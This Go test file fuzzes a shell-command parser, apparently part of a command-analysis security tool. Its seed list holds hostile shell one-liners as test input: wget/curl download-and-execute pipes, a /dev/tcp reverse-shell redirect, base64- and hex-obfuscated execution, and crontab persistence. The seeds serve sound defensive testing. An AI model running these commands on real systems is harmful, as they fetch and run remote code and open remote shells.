package shell

import (
	"reflect"
	"slices"
	"strings"
	"testing"
)

var fuzzSeeds = []string{
	"sudo -u root env A=b /usr/bin/wget -qO- 'http://x/a.sh' 2>/dev/null | sh > /tmp/o &",
	"cd /tmp||cd /var/run;wget http://x/a.sh;chmod 777 a.sh;sh a.sh",
	`bash -c "{echo,Y3VybA==}|{base64,-d}|bash"`,
	`$(echo d2hvYW1p|base64 -d) && echo -e "\x77\x67" | sh`,
	"cat <<-EOF | bash\n\twget $U/a\n\tEOF\n",
	"while read i; do echo $i; done < .s & a=(b c); ${a[@]} ${x:-$(id)}",
	`python -c 'import os; os.system("wget x")'; find . -exec sh -c 'x' \;`,
	"echo '* * * * * x' | crontab -; echo id > f; . ./f; case x in a) b;; esac",
	"bash <(curl x) >& /dev/tcp/1.2.3.4/80 0>&1; {a,b{c,d}} $'\\x41' `a \\`b\\`` $((1+$(c)))",
	"echo tegw|rev|tr a-z b-za|sed s/a/b/|xxd -r -p|openssl base64 -d|sh",
}

// Every text has a script within the limits, the same each time. If one of its commands is
// written out with quotes, it parses to the same command.
func FuzzParse(f *testing.F) {
	for _, s := range fuzzSeeds {
		f.Add(s)
	}
	for _, u := range hostileUnits {
		f.Add(strings.Repeat(u, 20))
	}
	f.Fuzz(func(t *testing.T, text string) {
		if len(text) > 16<<10 {
			return
		}
		p := NewParser(Limits{})
		p.panics = true
		s := p.Parse(text)
		checkScript(t, text, s)
		checkProcesses(t, text, s)
		if again := p.Parse(text); !reflect.DeepEqual(s, again) {
			t.Fatalf("%q: two scripts\n%+v\n%+v", text, s, again)
		}
		for i := range s.Commands {
			if i == 8 {
				break
			}
			requote(t, p, &s.Commands[i])
		}
	})
}

// requote checks that a command written out with quotes is that command again.
func requote(t *testing.T, p *Parser, c *Command) {
	t.Helper()
	words := append([]string{c.Path}, c.Args...)
	if c.Program == "" || c.Program == c.Path && strings.Contains(c.Path, "/") {
		return
	}
	if _, wraps := wrappers[c.Program]; wraps || len(words) > 1000 {
		return
	}
	for i, w := range words {
		if strings.ContainsAny(w, "\x00\r") {
			return
		}
		words[i] = "'" + strings.ReplaceAll(w, "'", `'\''`) + "'"
	}
	s := p.Parse(strings.Join(words, " "))
	if len(s.Commands) == 0 || s.Commands[0].Path != c.Path || !slices.Equal(s.Commands[0].Args, c.Args) {
		t.Fatalf("%q %q written as %q gives %+v", c.Path, c.Args, words, s.Commands)
	}
}

// What the strict scanner accepts, the full parser reads in the same way.
func FuzzStrict(f *testing.F) {
	for _, s := range fuzzSeeds {
		f.Add(s)
	}
	for _, s := range []string{
		"a=b c 2>d >>e <f 'g h' \"i\" | j && k || l & m\nn;o", "2>&1 a >&2 3<>b >|c &>d &>>e", "a[1]=b x", "a+=b", "~/a *.b ?c ]d @e %f ^g", "a\t b", "=a a= -b",
		"export A=b", "a 2 >b", "a>b c", "foo= bar", "a==b", "a;b;", "a\n\nb\n", "time a", "a>'b c'd", "select", "x=1 if", ">a if", "a>b>c", "1>2 3>4",
	} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, text string) {
		if len(text) <= 4<<10 {
			sameBothWays(t, text)
		}
	})
}

// Brace expansion stays within its limits and yields only what the braces contain.
func FuzzBraces(f *testing.F) {
	f.Add("{echo,Y3VybA==}")
	f.Add("a{b,c{d,e}}f{1..3}")
	f.Fuzz(func(t *testing.T, raw string) {
		b := build{limits: Limits{}.withDefaults()}
		out := b.braces(raw)
		if len(out) > maxBraces {
			t.Fatalf("%d words", len(out))
		}
		for _, w := range out {
			if len(w) > len(raw) {
				t.Fatalf("%q from %q", w, raw)
			}
		}
	})
}
